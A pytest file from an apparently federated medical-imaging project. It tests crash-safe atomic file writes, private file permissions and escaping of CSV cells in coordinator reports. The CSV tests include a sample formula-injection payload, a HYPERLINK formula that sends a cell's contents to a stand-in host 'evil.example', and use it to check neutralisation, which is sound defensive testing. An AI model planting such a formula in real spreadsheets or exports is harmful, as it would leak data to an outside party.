"""Durable writes (shared/durable.py) and where they are used: a state file is replaced whole
or not at all and survives a power cut (the file and its folder are fsynced); the site's
files are private (umask 0077); the coordinator's CSV reports cannot carry live formulas."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import numpy as np
import pytest
import torch
from test_observability import make_site

from fedbreast.server.checkpoints import load_checkpoint, save_checkpoint
from fedbreast.server.cross_site import write_cross_site
from fedbreast.server.metric_store import MetricStore
from fedbreast.server.report import write_report
from fedbreast.shared import durable
from fedbreast.shared.config import RunConfig
from fedbreast.shared.csv_cells import safe_cell
from fedbreast.shared.data.check import check_site
from fedbreast.shared.data.manifest import MANIFEST, SITE_META, meta_mismatch, write_manifest
from fedbreast.shared.data.pseudonym import KEY_FILE, load_or_create_key
from fedbreast.shared.training.personalise import PersonalStore


@pytest.fixture
def synced(monkeypatch):
    """Every os.fsync and os.replace, in order, by the path the call was about."""
    calls: list[tuple[str, Path]] = []
    real_fsync, real_replace = os.fsync, os.replace

    def fsync(fd):
        calls.append(("fsync", Path(os.readlink(f"/proc/self/fd/{fd}"))))
        return real_fsync(fd)

    def replace(src, dst):
        calls.append(("replace", Path(dst)))
        return real_replace(src, dst)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "replace", replace)
    return calls


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_an_atomic_write_fsyncs_the_file_then_renames_then_fsyncs_the_folder(tmp_path, synced):
    target = tmp_path / "state.json"
    durable.atomic_write_json(target, {"round": 3})
    assert json.loads(target.read_text()) == {"round": 3} and mode_of(target) == 0o600
    (kind1, temp), (kind2, renamed), (kind3, folder) = synced
    assert kind1 == "fsync" and temp.parent == tmp_path and temp.name.endswith(".tmp")
    assert (kind2, renamed) == ("replace", target) and (kind3, folder) == ("fsync", tmp_path)
    assert leftovers(tmp_path) == []


def test_a_failure_before_the_rename_leaves_the_old_file(tmp_path, monkeypatch):
    target = tmp_path / "state.bin"
    durable.atomic_write_bytes(target, b"old")

    def no_space(fh):
        fh.write(b"half of the new")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space left on device") as info:
        durable.atomic_write(target, no_space)
    assert info.value.filename == str(target)  # the error names the file, not a temp name
    assert target.read_bytes() == b"old" and leftovers(tmp_path) == []

    def cannot_rename(src, dst):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "replace", cannot_rename)
    with pytest.raises(PermissionError, match=str(target)):
        durable.atomic_write_text(target, "new")
    assert target.read_bytes() == b"old" and leftovers(tmp_path) == []


def test_mode_is_limited_by_the_umask(tmp_path):
    old = os.umask(0o022)
    try:
        durable.atomic_write_text(tmp_path / "report.csv", "a\n", mode=0o666)
        durable.atomic_write_text(tmp_path / "state.json", "{}\n")
        os.umask(0o077)
        durable.atomic_write_text(tmp_path / "private.csv", "a\n", mode=0o666)
    finally:
        os.umask(old)
    assert mode_of(tmp_path / "report.csv") == 0o644
    assert mode_of(tmp_path / "state.json") == 0o600 and mode_of(tmp_path / "private.csv") == 0o600


def test_files_replaced_together_are_renamed_in_order_with_the_folder_synced_after_each(tmp_path, synced):
    a, b = tmp_path / "manifest.jsonl", tmp_path / "site.json"
    durable.replace_together({a: b"rows\n", b: b"{}\n"})
    assert [c for c in synced if c[0] == "replace" or c[1] == tmp_path] == [
        ("replace", a),
        ("fsync", tmp_path),
        ("replace", b),
        ("fsync", tmp_path),
    ]
    assert [c[0] for c in synced[:2]] == ["fsync", "fsync"]  # both temps fsynced before the first rename


def test_a_crash_between_renames_leaves_a_prefix_new(tmp_path, monkeypatch):
    a, b = tmp_path / "a", tmp_path / "b"
    durable.replace_together({a: b"old a", b: b"old b"})
    real_replace = os.replace

    def crash_on_b(src, dst):
        if Path(dst) == b:
            raise OSError(5, "Input/output error")
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", crash_on_b)
    with pytest.raises(OSError, match=str(b)):
        durable.replace_together({a: b"new a", b: b"new b"})
    assert (a.read_bytes(), b.read_bytes()) == (b"new a", b"old b") and leftovers(tmp_path) == []


def test_manifest_and_site_json_name_each_other(tmp_path, monkeypatch):
    site = tmp_path / "site"
    records = make_site(site)
    meta = json.loads((site / SITE_META).read_text())
    assert meta["manifest_sha256"] and meta_mismatch(site) is None
    assert not any("describes another" in p for p in check_site(site).problems)
    # A crash after the manifest's rename, before site.json's: the pair is recognisably mixed.
    real_replace = os.replace
    monkeypatch.setattr(os, "replace", lambda s, d: real_replace(s, d) if Path(d).name == MANIFEST else 1 / 0)
    with pytest.raises(ZeroDivisionError):
        write_manifest(site, records[:4], {"site": "hospital-a"})
    assert len((site / MANIFEST).read_text().splitlines()) == 4
    assert "an ingest stopped between writing the two" in (meta_mismatch(site) or "")
    assert any("describes another manifest.jsonl" in p for p in check_site(site).problems)


def test_the_site_key_is_created_once_private_and_synced(tmp_path, synced):
    old = os.umask(0)  # even a permissive umask: the key is 0600
    try:
        key = load_or_create_key(tmp_path)
    finally:
        os.umask(old)
    path = tmp_path / KEY_FILE
    assert mode_of(path) == 0o600 and bytes.fromhex(path.read_text().strip()) == key
    assert synced[0][0] == "fsync" and synced[0][1].name.endswith(".tmp") and ("fsync", tmp_path) in synced
    assert load_or_create_key(tmp_path) == key
    # Another ingest created the key first: both keep its key; it is never replaced.
    assert durable.atomic_create_bytes(path, b"00" * 32 + b"\n") is False
    assert load_or_create_key(tmp_path) == key and leftovers(tmp_path) == []


def test_checkpoints_personal_state_and_metric_truncation_are_durable(tmp_path, synced, monkeypatch):
    arrays = {"w": np.arange(6, dtype=np.float32).reshape(2, 3)}
    save_checkpoint(tmp_path, "latest", arrays, {"round": 1})
    folder = tmp_path / "checkpoints"
    assert ("replace", folder / "latest.pt") in synced and ("replace", folder / "latest.json") in synced
    assert synced.count(("fsync", folder)) == 2 and mode_of(folder / "latest.pt") == 0o600

    store = PersonalStore(tmp_path / "site", "run-1")
    store.save({"round": 2, "weights": {"w": torch.zeros(2)}})
    assert ("fsync", store.path.parent) in synced and mode_of(store.path) == 0o600
    assert store.load()["round"] == 2

    metrics = MetricStore(tmp_path)
    for rnd in (1, 2, 3):
        metrics.append(rnd, "train", "site-1", {"loss": 0.5})
    before = metrics.path.stat().st_ino
    assert metrics.truncate_after(1) == 2
    assert [r["round"] for r in metrics.rows()] == [1] and metrics.path.stat().st_ino != before
    assert ("fsync", tmp_path) in synced

    # A crash while writing the next checkpoint or truncating leaves the previous file whole.
    def crash(*args, **kwargs):
        raise OSError(5, "Input/output error")

    metrics.append(2, "train", "site-1", {"loss": 0.4})
    monkeypatch.setattr(os, "replace", crash)
    with pytest.raises(OSError):
        save_checkpoint(tmp_path, "latest", {"w": np.ones((2, 3), np.float32)}, {"round": 2})
    with pytest.raises(OSError):
        metrics.truncate_after(1)
    ckpt = load_checkpoint(tmp_path, "latest")
    assert ckpt is not None and ckpt.round == 1 and np.array_equal(ckpt.arrays["w"], arrays["w"])
    assert [r["round"] for r in metrics.rows()] == [1, 2]
    assert leftovers(folder) == [] and leftovers(tmp_path) == []


# ---- the site daemon's umask ---------------------------------------------------------------------


def test_the_site_daemon_makes_its_files_private(tmp_path, monkeypatch):
    from fedbreast.client import daemon, site_config

    seen = []

    def load_site_config(path, insecure=False):
        seen.append(os.umask(0o077))  # the umask in force when the daemon reads its config
        raise RuntimeError("stop here: no SuperNode in this test")

    monkeypatch.setattr(site_config, "load_site_config", load_site_config)
    old = os.umask(0o022)
    try:
        with pytest.raises(RuntimeError, match="stop here"):
            daemon.run_site(tmp_path / "site.toml")
        assert seen == [0o077]  # set before anything else
        # What the daemon's process creates: cache shards, state, folders.
        (tmp_path / "cache").mkdir()
        (tmp_path / "cache" / "shard.npy").write_bytes(b"pixels")
        np.save(tmp_path / "cache" / "more.npy", np.zeros(3))
        durable.atomic_write_bytes(tmp_path / "state.json", b"{}", mode=0o666)
    finally:
        os.umask(old)
    assert mode_of(tmp_path / "cache") == 0o700
    for name in ("cache/shard.npy", "cache/more.npy", "state.json"):
        assert mode_of(tmp_path / name) == 0o600, name
    unit = (Path(__file__).resolve().parents[1] / "deploy" / "systemd" / "fedbreast-site.service").read_text()
    assert "\nUMask=0077\n" in unit


# ---- CSV reports -------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
AWKWARD = 'st. "Mary\'s",\nward 2'


def test_a_cell_that_a_spreadsheet_would_run_is_neutralised():
    for value in (EVIL, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"):
        assert safe_cell(value) == "'" + value
    for value in ("hospital-a", "", None, -0.25, 3, 0.0, "a=b"):
        assert safe_cell(value) == value


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(), newline="")))


def test_site_names_in_the_coordinators_csv_files_are_escaped(tmp_path):
    store = MetricStore(tmp_path)
    for site, auc in ((EVIL, 0.75), (AWKWARD, -0.5)):
        store.append(2, "evaluate", site, {"test_auc": auc, "test_n": 10, "test_exams": 5})
        for model in ("global", f"personal:{site}"):
            store.append(2, "cross-site", site, {"model": model, "test_auc": auc, "test_n": 10})
    write_report(tmp_path, RunConfig())
    write_cross_site(tmp_path)
    for name in ("summary.csv", "cross_site.csv"):
        rows = read_csv(tmp_path / name)
        body = {r[0]: r for r in rows[1:]}
        assert set(body) == {"'" + EVIL, AWKWARD}, name  # comma, quote and newline survive, quoted
        assert "0.75" in body["'" + EVIL] and "-0.5" in body[AWKWARD], name  # numbers stay numbers
    header = read_csv(tmp_path / "cross_site.csv")[0]
    assert f"auc[personal:{EVIL}]" in header  # not at the start of a cell: harmless as it is
